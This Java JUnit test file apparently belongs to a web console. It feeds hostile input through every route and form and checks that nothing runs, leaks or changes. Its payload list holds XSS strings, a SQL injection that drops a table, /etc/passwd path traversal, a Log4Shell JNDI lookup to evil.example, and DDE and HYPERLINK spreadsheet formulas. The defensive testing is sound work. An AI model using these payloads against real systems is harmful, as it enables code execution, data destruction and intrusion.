package throughline.console;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import throughline.access.AccessRules;
import throughline.access.Need;
import throughline.audit.AuditLog;
import throughline.people.Scope;
import throughline.server.FirmOnPaper;
import throughline.server.FirmOnPaper.Called;
import throughline.server.SignedIn;

@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputTest {

    private static final List<String> TEXTS =
            List.of(
                    "<script>alert(1)</script>",
                    "\"><img src=x onerror=alert(1)>",
                    "'; drop table person; --",
                    "x".repeat(60_000),
                    "\u202Eمرحبا\u202C",
                    "👩‍👩‍👧‍👦".repeat(50),
                    "=HYPERLINK(\"http://evil.example\")",
                    "../../../etc/passwd",
                    "%00",
                    "${jndi:ldap://evil.example/x}");

    private FirmOnPaper firm;
    private SignedIn admin;
    private String token;
    private String deal;

    @BeforeAll
    void start(@TempDir Path folder) throws Exception {
        firm = FirmOnPaper.in(folder);
        admin = SignedIn.first(firm.server());
        token = SignedIn.token(firm.server(), "admin");
        firm.customer("001B", "=cmd|' /C calc'!A0", "");
        deal = firm.won("006E", "=1+1 <b>bold</b>", "001B", 10_000, "005A");
    }

    @AfterAll
    void stop() {
        firm.close();
    }

    @Test
    void hostile_text_in_every_address_is_answered_without_a_fault_of_ours() throws Exception {
        for (AccessRules.Rule rule : AccessRules.ALL) {
            String pattern = rule.path().getPatternString();
            if (!rule.method().equals("GET")
                    || pattern.contains("**")
                    || pattern.contains("stream")
                    || pattern.contains("milestones")
                    || rule.need() == Need.NOTHING) {
                continue;
            }
            for (String text : TEXTS) {
                String hostile = encoded(text.length() > 4_000 ? text.substring(0, 4_000) : text);
                String path = pattern.replaceAll("\\{[^}]+}", "x" + hostile.replace("%2F", "_"));
                String query =
                        "?q=%1$s&code=%1$s&cause=%1$s&from=%1$s&engagement=%1$s&key=%1$s&stage=%1$s"
                                .formatted(hostile);
                for (String address : List.of(path, path + query)) {
                    if (pattern.startsWith("/api")) {
                        Called called = firm.call(token, address.substring("/api/v1".length()), "");
                        assertThat(called.status()).as(address).isLessThan(500);
                        assertThat(called.body()).doesNotContain("Exception");
                    } else {
                        HttpResponse<String> answer = admin.get(address);
                        assertThat(answer.statusCode()).as(address).isLessThan(500);
                        assertThat(answer.body())
                                .doesNotContain("<script>alert(1)")
                                .doesNotContain("<img src=x")
                                .doesNotContain("at throughline.");
                    }
                }
            }
        }
    }

    @Test
    void hostile_text_in_every_form_is_refused_or_kept_as_text_and_decides_nothing()
            throws Exception {
        long decisions = count("decision");
        long people = count("person");
        for (AccessRules.Rule rule : AccessRules.ALL) {
            String pattern = rule.path().getPatternString();
            if (!rule.method().equals("POST") || rule.need() == Need.NOTHING) {
                continue;
            }
            for (String text : TEXTS) {
                String path = pattern.replaceAll("\\{[^}]+}", "7");
                Map<String, String> fields = new LinkedHashMap<>();
                for (String name :
                        List.of(
                                "decision",
                                "code",
                                "action",
                                "unit",
                                "reason",
                                "once",
                                "seen",
                                "engagement",
                                "key",
                                "version",
                                "assignee",
                                "until",
                                "how",
                                "text",
                                "cause",
                                "old",
                                "password",
                                "again")) {
                    fields.put(name, text.length() > 3_000 ? text.substring(0, 3_000) : text);
                }
                if (pattern.startsWith("/api")) {
                    String body = throughline.journal.RawJson.text(fields);
                    Called called =
                            firm.call(
                                    token,
                                    path.substring("/api/v1".length()),
                                    body,
                                    "Idempotency-Key",
                                    UUID.randomUUID().toString(),
                                    "If-Match",
                                    "\"x\"");
                    assertThat(called.status()).as(path + called.body()).isBetween(400, 499);
                    assertThat(called.code()).as(path + called.body()).isNotEmpty();
                } else {
                    HttpResponse<String> answer = admin.post(path, fields);
                    assertThat(answer.statusCode()).as(path).isBetween(400, 499);
                    assertThat(answer.body())
                            .doesNotContain("<script>alert(1)")
                            .doesNotContain("at throughline.");
                }
            }
        }
        assertThat(count("decision")).isEqualTo(decisions);
        assertThat(count("person")).isEqualTo(people);
        assertThat(
                        new AuditLog(firm.server().installation().dataSource())
                                .verify(java.util.Optional.empty())
                                .fault())
                .isEmpty();
    }

    @Test
    void a_string_of_a_megabyte_and_more_is_refused_before_it_is_read() throws Exception {
        String large = "x".repeat(1_100_000);
        assertThat(admin.post("/exceptions/comment", Map.of("text", large)).statusCode())
                .isEqualTo(413);
        Called called =
                firm.call(token, "/would-activate", "{\"record\":{\"Id\":\"" + large + "\"}}");
        assertThat(called.status()).isEqualTo(413);
        assertThat(called.code()).isEqualTo("too-large");
    }

    @Test
    void a_name_that_would_run_in_a_spreadsheet_is_exported_as_text() throws Exception {
        String csv = admin.get("/exceptions.csv").body();
        assertThat(csv).contains(",'=1+1 <b>bold</b>,").doesNotContain(",=1+1");
        assertThat(admin.get("/exceptions").body())
                .contains("=1+1 &lt;b&gt;bold&lt;/b&gt;")
                .doesNotContain("<b>bold</b>");
    }

    @Test
    void what_people_say_is_shown_as_they_said_it_and_runs_nowhere() throws Exception {
        String care = "/exceptions/care?engagement=" + deal + "&key=gate%3Acustomer-incomplete";
        for (String text : TEXTS.subList(0, 3)) {
            Map<String, String> form =
                    Map.of("engagement", deal, "key", "gate:customer-incomplete", "text", text);
            assertThat(admin.post("/exceptions/comment", form).statusCode()).isEqualTo(303);
        }
        String page = admin.get(care).body();
        assertThat(page)
                .contains("&lt;script&gt;alert(1)&lt;/script&gt;")
                .contains("drop table person")
                .doesNotContain("<script>alert(1)");
    }

    @Test
    void a_stale_edit_is_refused_and_says_what_the_other_did() throws Exception {
        String other = firm.won("006S", "Stale", "001B", 11_000, "005A");
        Map<String, String> mine =
                new LinkedHashMap<>(
                        Map.of(
                                "engagement",
                                other,
                                "key",
                                "gate:customer-incomplete",
                                "assignee",
                                "admin",
                                "version",
                                "0"));
        assertThat(admin.post("/exceptions/assign", mine).statusCode()).isEqualTo(303);
        mine.put("assignee", "");
        HttpResponse<String> late = admin.post("/exceptions/assign", mine);
        assertThat(late.statusCode()).isEqualTo(412);
        assertThat(late.body()).contains("Nothing was changed").contains("admin");
        assertThat(
                        firm.database()
                                .sql("select assignee from exception_care where engagement = ?")
                                .param(other)
                                .query(String.class)
                                .single())
                .isEqualTo("admin");
    }

    @Test
    void an_exception_rests_until_a_day_or_until_something_happens_and_comes_back_by_itself()
            throws Exception {
        String resting = firm.won("006N", "Resting deal", "001B", 11_000, "005A");
        Map<String, String> snooze =
                Map.of(
                        "engagement",
                        resting,
                        "key",
                        "gate:customer-incomplete",
                        "version",
                        "0",
                        "how",
                        "fact");
        assertThat(admin.post("/exceptions/snooze", snooze).statusCode()).isEqualTo(303);
        assertThat(admin.get("/exceptions").body()).doesNotContain("Resting deal");
        assertThat(admin.get("/exceptions?snoozed=true").body()).contains("Resting deal");
        firm.won("006N", "Resting deal", "001B", 12_000, "005A");
        assertThat(admin.get("/exceptions").body()).contains("Resting deal");
        Map<String, String> past = new LinkedHashMap<>(snooze);
        past.putAll(Map.of("how", "day", "until", "2020-01-01", "version", "1"));
        assertThat(admin.post("/exceptions/snooze", past).statusCode()).isEqualTo(400);
    }

    @Test
    void a_session_that_has_ended_changes_nothing_and_says_so() throws Exception {
        SignedIn gone = SignedIn.added(firm.server(), "gone", Set.of("finance"), Scope.WHOLE);
        String csrf = gone.csrf();
        gone.post("/sign-out", Map.of());
        Map<String, String> form =
                Map.of("engagement", deal, "key", "gate:customer-incomplete", "text", "late");
        HttpResponse<String> answer = gone.post("/exceptions/comment", form, csrf);
        assertThat(answer.statusCode()).isIn(302, 403);
        assertThat(count("exception_comment where text = 'late'")).isZero();
    }

    @Test
    void whoever_lacks_a_right_is_told_which_and_nothing_happens() throws Exception {
        SignedIn viewer = SignedIn.added(firm.server(), "viewer", Set.of("viewer"), Scope.WHOLE);
        String weak = SignedIn.token(firm.server(), "viewer");
        for (AccessRules.Rule rule : AccessRules.ALL) {
            boolean beyond =
                    Set.of(Need.DECIDE, Need.OPERATE, Need.ADMINISTER, Need.AUDIT)
                            .contains(rule.need());
            String pattern = rule.path().getPatternString();
            if (!beyond || pattern.contains("**") || rule.method().equals("*")) {
                continue;
            }
            String path = pattern.replaceAll("\\{[^}]+}", "7");
            if (pattern.startsWith("/api")) {
                String body = rule.method().equals("POST") ? "{}" : "";
                Called called = firm.call(weak, path.substring("/api/v1".length()), body);
                assertThat(called.status()).as(path).isEqualTo(403);
                assertThat(called.code()).isEqualTo("not-allowed");
            } else {
                HttpResponse<String> answer =
                        rule.method().equals("POST")
                                ? viewer.post(path, Map.of())
                                : viewer.get(path);
                assertThat(answer.statusCode()).as(path).isEqualTo(403);
                assertThat(answer.body()).contains("it needs");
            }
        }
    }

    @Test
    void a_parked_message_is_shown_as_it_came_and_taken_up_again_with_a_reason() throws Exception {
        firm.take(
                "Opportunity",
                "006Z",
                "{\"Id\":\"006Z\",\"Name\":\"<b>Waits</b>\",\"OwnerId\":\"005Z\"");
        long id =
                firm.database()
                        .sql(
                                "select message_id from parked p join message m on m.id ="
                                        + " p.message_id where m.external_id = '006Z'")
                        .query(Long.class)
                        .single();
        assertThat(admin.get("/parked").body()).contains("crm:Opportunity:006Z");
        assertThat(admin.get("/parked/" + id).body())
                .contains("&lt;b&gt;Waits&lt;/b&gt;")
                .doesNotContain("<b>Waits");
        Map<String, String> form = new LinkedHashMap<>(Map.of("once", "one", "reason", ""));
        assertThat(admin.post("/parked/" + id + "/requeue", form).statusCode()).isEqualTo(400);
        form.put("reason", "again");
        assertThat(admin.post("/parked/" + id + "/requeue", form).statusCode()).isEqualTo(303);
        firm.eventually("select attempts > 1 from parked where message_id = ?", id);
        assertThat(admin.get("/parked/999999").statusCode()).isEqualTo(404);
    }

    private long count(String from) {
        return firm.database().sql("select count(*) from " + from).query(Long.class).single();
    }

    private static String encoded(String text) {
        return java.net.URLEncoder.encode(text, java.nio.charset.StandardCharsets.UTF_8)
                .replace("+", "%20");
    }
}
